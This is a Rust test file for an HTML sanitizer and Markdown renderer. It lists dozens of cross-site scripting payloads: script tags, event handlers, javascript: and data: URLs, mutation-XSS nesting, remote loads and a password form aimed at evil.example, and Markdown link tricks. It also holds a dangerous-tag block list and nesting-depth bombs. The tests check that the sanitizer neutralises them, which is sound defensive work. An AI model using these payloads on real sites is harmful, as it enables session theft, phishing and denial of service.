//! Tests only: what hostile authors send. A new attack is a new line.

use crate::{clean_html, markdown_to_html};

pub(crate) const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src='https://a.example/x' ONERROR='alert(1)'>",
    "<p onclick=alert(1) onmouseover='alert(2)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='x.swf'></object><embed src='x.swf'><applet code=x></applet>",
    "<style>body{display:none}</style><style>@import 'https://evil.example'",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class='button primary' data-action='delete'>x</div>",
    "<video src=x onerror=alert(1)><source src=x></video><audio autoplay src=x>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)><html onclick=alert(1)>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=x><keygen autofocus onfocus=alert(1)>",
    "<img name=cookie id=cookie><p id=__proto__>x</p>",
    "<a href='https://a.example' target=_top rel=opener ping='https://evil.example'>x</a>",
    "<p><b><i>never closed <a href='https://a.example",
    "</p></div></main></body></html><script>alert(1)</script>",
    "<a\u{0}href='javascript:alert(1)'>x</a>",
    "<dialog open>x</dialog><button popovertarget=x>x</button><select><option>x</select>",
    "<a href='x>x</b><select><option>x<|t>",
    "<p is='evil-element' slot=x part=y>x</p><evil-element>x</evil-element>",
    // Markdown's own ways.
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\nx\n```",
    "# x {#a onclick=alert(1) .button}",
    "[x](https://a.example \"\\\" onclick=alert(1)\")",
    "> <script>\n> alert(1)\n> </script>",
];

const ALIVE: &[&str] = &[
    "<script",
    "<svg",
    "<math",
    "<style",
    "<iframe",
    "<form",
    "<input",
    "<base",
    "<meta",
    "<link",
    "<object",
    "<embed",
    "<video",
    "<audio",
    "<template",
    "<textarea",
    "<button",
    "<title",
    "<noscript",
    "<body",
    "<html",
    "<frame",
    "<!",
    "<?",
    "<evil",
    "<dialog",
    "<select",
    "<marquee",
];

const ATTRIBUTES: &[&str] = &[
    "href", "src", "alt", "rel", "id", "class", "open", "title", "dir", "lang", "width", "height", "start", "reversed",
    "align", "colspan", "rowspan", "scope",
];

/// Names of attributes that the tags of the result hold.
fn attributes(html: &str) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    for tag in html.split('<').skip(1).filter_map(|tag| tag.split_once('>')).map(|(tag, _)| tag) {
        let mut rest = tag.trim_start_matches(|c| c != ' ');
        while let Some((name, (value, after))) =
            rest.split_once("=\"").and_then(|(name, rest)| Some((name, rest.split_once('"')?)))
        {
            found.push((name.trim(), value));
            rest = after;
        }
    }
    found
}

/// The scheme of an address as browsers find it: they drop tabs, line breaks and what does not print in front, and
/// take whatever has no scheme for an address beside this page.
fn scheme(address: &str) -> Option<String> {
    let dropped: String = address.trim_start_matches(|c| c <= ' ').replace(['\t', '\n', '\r'], "");
    let (scheme, _) = dropped.split_once(':')?;
    let is_scheme = scheme.starts_with(|c: char| c.is_ascii_alphabetic())
        && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    is_scheme.then(|| scheme.to_ascii_lowercase())
}

/// Nothing in the result acts, and cleaning it again changes nothing.
pub(crate) fn assert_harmless(attack: &str, html: &str) {
    let lower = html.to_lowercase();
    for alive in ALIVE {
        assert!(!lower.contains(alive), "{attack}\n{html}");
    }
    for (name, value) in attributes(html) {
        assert!(ATTRIBUTES.contains(&name), "{attack}\n{html}");
        if matches!(name, "href" | "src") {
            let harmless = scheme(value).is_none_or(|scheme| ["https", "http", "mailto"].contains(&scheme.as_str()));
            assert!(harmless, "{attack}\n{html}");
            assert!(!value.starts_with("//") && !value.starts_with("/\\"), "{attack}\n{html}");
        }
        assert!(name != "class" || value.starts_with("language-"), "{attack}\n{html}");
        assert!(name != "id" || value.starts_with("text-"), "{attack}\n{html}");
    }
    // Cleaned text that changes when cleaned again is how mutation attacks get through.
    assert_eq!(clean_html(html).as_str(), html, "{attack}");
}

/// Proves: F39
#[test]
fn no_attack_leaves_anything_alive() {
    for attack in ATTACKS {
        for html in [clean_html(attack), markdown_to_html(attack), markdown_to_html(&format!("- x\n\n  {attack}\n"))] {
            assert_harmless(attack, html.as_str());
            let without = html.without_pictures();
            assert!(!without.as_str().contains("<img"), "{attack}\n{without}");
            assert_harmless(attack, without.as_str());
        }
    }
}

#[test]
fn depth_bombs_end_as_text() {
    let deep = 10_000;
    for bomb in [
        "> ".repeat(deep) + "text",
        "- ".repeat(deep) + "text",
        "1. ".repeat(deep) + "text",
        "*a **a ".repeat(deep) + "text",
        "[".repeat(deep) + "text" + &"](x)".repeat(deep),
        "![".repeat(deep) + "text",
        "`".repeat(deep) + "text",
        "<div>".repeat(deep) + "text",
        "<b><i><a href=x>".repeat(deep) + "text",
        "<table><tr><td>".repeat(deep / 2) + "text",
        "<ul><li>".repeat(deep) + "text",
        "<svg><desc>".repeat(deep) + "</desc></svg>text",
        "<div>".repeat(4_000) + "text",
        "<div><textarea></div></textarea>".repeat(deep) + "text",
    ] {
        for html in [markdown_to_html(&bomb), clean_html(&bomb)] {
            assert!(html.as_str().contains("text"), "{}", &bomb[..12]);
            assert!(html.as_str().split("<div>").count() <= 102);
        }
    }
}
